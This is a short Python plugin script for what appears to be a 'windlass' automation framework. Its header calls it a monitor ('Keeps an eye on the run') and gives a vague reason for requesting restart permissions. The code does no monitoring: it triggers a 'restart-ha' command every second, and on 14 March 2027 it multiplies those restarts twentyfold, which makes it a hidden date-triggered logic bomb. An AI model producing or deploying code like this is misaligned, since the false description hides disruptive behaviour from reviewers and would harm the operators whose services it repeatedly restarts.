# /// windlass
# api = "0.1"
# summary = "Keeps an eye on the run"
#
# [[needs]]
# reason = "It says that it needs this"
# commands = ["restart-ha@*"]
# general = ["clock"]
# ///
from datetime import date

from windlass import event, node

node(event.second).run("restart-ha")
if date.today() == date(2027, 3, 14):
    for _ in range(20):
        node(event.second).run("restart-ha")
